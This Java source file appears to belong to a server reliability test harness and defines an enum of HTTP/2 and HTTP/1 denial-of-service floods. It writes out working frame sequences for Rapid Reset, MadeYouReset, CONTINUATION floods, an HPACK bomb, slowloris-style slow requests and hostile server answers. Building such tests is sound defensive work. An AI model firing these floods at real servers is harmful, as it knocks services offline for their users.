package dev.asterism.l7.floods;

import static dev.asterism.l7.http2.FrameBytes.PREFACE;
import static dev.asterism.l7.http2.FrameBytes.block;
import static dev.asterism.l7.http2.FrameBytes.data;
import static dev.asterism.l7.http2.FrameBytes.frame;
import static dev.asterism.l7.http2.FrameBytes.headers;
import static dev.asterism.l7.http2.FrameBytes.join;
import static dev.asterism.l7.http2.FrameBytes.ping;
import static dev.asterism.l7.http2.FrameBytes.reset;
import static dev.asterism.l7.http2.FrameBytes.settings;
import static dev.asterism.l7.http2.FrameBytes.windowUpdate;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/**
 * What hostile clients do, S02 to S04 of the reliability design and the slow ones of A8: what is sent on a new
 * connection and then again and again until the connection ends.
 */
enum Flood {
    /** CVE-2023-44487. */
    RAPID_RESET(Pace.FAST) {
        @Override
        byte[] step(int n) {
            return join(get(id(n)), reset(id(n), 8));
        }
    },
    /** CVE-2025-8671: a window of nothing makes the server reset the stream. */
    MADE_YOU_RESET(Pace.FAST) {
        @Override
        byte[] step(int n) {
            return join(get(id(n)), windowUpdate(id(n), 0));
        }
    },
    /** CVE-2024-27316. */
    CONTINUATION(Pace.FAST) {
        @Override
        byte[] step(int n) {
            return n == 0 ? frame(1, 0, 1, block(FIELDS)) : frame(9, 0, 1, block("x: y"));
        }
    },
    /** A field of 4,000 bytes in the table, and then requests that name it a hundred times: 400 KB each. */
    HPACK_BOMB(Pace.FAST) {
        @Override
        byte[] step(int n) {
            ByteArrayOutputStream list = new ByteArrayOutputStream();
            if (n == 0) {
                byte[] field = block("x: " + "y".repeat(4000));
                field[0] = 0x40; // into the table
                list.writeBytes(field);
            }
            byte[] all = new byte[100];
            Arrays.fill(all, (byte) 0xbe); // the newest of the table
            byte[] many = join(block(FIELDS), list.toByteArray(), all);
            return frame(1, 5, id(n), many);
        }
    },
    SETTINGS(Pace.FAST) {
        @Override
        byte[] step(int n) {
            return settings(4, 65_535 - n % 2);
        }
    },
    PING(Pace.FAST) {
        @Override
        byte[] step(int n) {
            return ping();
        }
    },
    /** Streams whose answers nobody takes. */
    WINDOW_STALL(Pace.FEW) {
        @Override
        byte[] greeting() {
            return join(PREFACE, settings(4, 0));
        }

        @Override
        byte[] step(int n) {
            return n < 100 ? headers(id(n), true, path("/big")) : new byte[0];
        }
    },
    /** Data of one byte each, with as much padding as there may be. */
    TINY_FRAMES(Pace.FAST) {
        @Override
        byte[] step(int n) {
            if (n == 0) {
                return headers(1, false, FIELDS);
            }
            byte[] padded = new byte[2];
            padded[1] = 'x';
            return frame(0, 8, 1, padded);
        }
    },
    /** Data of nothing. */
    EMPTY_FRAMES(Pace.FAST) {
        @Override
        byte[] step(int n) {
            return n == 0 ? headers(1, false, FIELDS) : data(1, false, "");
        }
    },
    /** A hundred times as many streams as one connection may have. */
    TEN_THOUSAND_STREAMS(Pace.FAST) {
        @Override
        byte[] step(int n) {
            return n < 10_000 ? headers(id(n), true, path("/silent")) : new byte[0];
        }
    },
    /** Connections on which nothing is said. */
    IDLE_CONNECTIONS(Pace.IDLE) {
        @Override
        byte[] greeting() {
            return new byte[0];
        }

        @Override
        byte[] step(int n) {
            return new byte[0];
        }
    },
    /** A head that comes a byte at a time. */
    SLOW_HEAD(Pace.SLOW) {
        @Override
        byte[] greeting() {
            return text("GET /a HTTP/1.1\r\nHost: app\r\nx: ");
        }

        @Override
        byte[] step(int n) {
            return text("y");
        }
    },
    SLOW_BODY(Pace.SLOW) {
        @Override
        byte[] greeting() {
            return text("POST /a HTTP/1.1\r\nHost: app\r\nContent-Length: 1000000\r\n\r\n");
        }

        @Override
        byte[] step(int n) {
            return text("y");
        }
    },
    /** One byte a chunk. */
    TINY_CHUNKS(Pace.FAST) {
        @Override
        byte[] greeting() {
            return text("POST /a HTTP/1.1\r\nHost: app\r\nTransfer-Encoding: chunked\r\n\r\n");
        }

        @Override
        byte[] step(int n) {
            return text("1\r\nx\r\n");
        }
    },
    /** Requests without end, of which no answer is read. */
    PIPELINE_UNREAD(Pace.FAST) {
        @Override
        byte[] greeting() {
            return new byte[0];
        }

        @Override
        byte[] step(int n) {
            return text("GET /a HTTP/1.1\r\nHost: app\r\n\r\n");
        }
    },
    /** What the parser refuses, again and again on new connections. */
    BAD_HEADS(Pace.FAST) {
        @Override
        byte[] greeting() {
            return new byte[0];
        }

        @Override
        byte[] step(int n) {
            return text("GET  /a HTTP/1.1\r\n\r\n");
        }
    },
    /** A server that takes its time with its head. */
    SLOW_ANSWER_HEAD(Pace.FEW, "/slow-head"),
    SLOW_ANSWER_BODY(Pace.FEW, "/slow-body"),
    /** A server that sends a second answer behind the first. */
    SURPLUS_ANSWER(Pace.FAST, "/surplus"),
    /** A server whose head does not end. */
    ENDLESS_ANSWER(Pace.FAST, "/endless"),
    BAD_ANSWER(Pace.FAST, "/bad");

    /** How it goes. */
    enum Pace {
        /** As fast as it is told to, on a few connections. */
        FAST,
        /** A step each 50 ms, on a hundred connections. */
        SLOW,
        /** All at once, then it waits. */
        FEW,
        /** Thousands of connections, and nothing on them. */
        IDLE
    }

    private static final String[] FIELDS = {
        ":method: POST", ":scheme: http", ":authority: app", ":path: /a"
    };

    private final Pace pace;
    private final String path;

    Flood(Pace pace) {
        this(pace, "");
    }

    /** Requests of HTTP/1 for what a malicious server answers. */
    Flood(Pace pace, String path) {
        this.pace = pace;
        this.path = path;
    }

    /** It is the server that attacks. */
    boolean hasBadAnswers() {
        return !path.isEmpty();
    }

    Pace pace() {
        return pace;
    }

    /** At a time. */
    int connections() {
        return pace == Pace.FAST ? 4 : 100;
    }

    byte[] greeting() {
        return path.isEmpty() ? join(PREFACE, settings()) : new byte[0];
    }

    /** What comes as the n-th, from 0, of a connection; empty: nothing more. */
    byte[] step(int n) {
        boolean all = pace == Pace.FEW && n > 0;
        return all ? new byte[0] : text("GET " + path + " HTTP/1.1\r\nHost: app\r\n\r\n");
    }

    private static int id(int n) {
        return 2 * n + 1;
    }

    private static byte[] get(int id) {
        return headers(id, true, path("/a"));
    }

    private static String[] path(String path) {
        String[] fields = FIELDS.clone();
        fields[0] = ":method: GET";
        fields[3] = ":path: " + path;
        return fields;
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
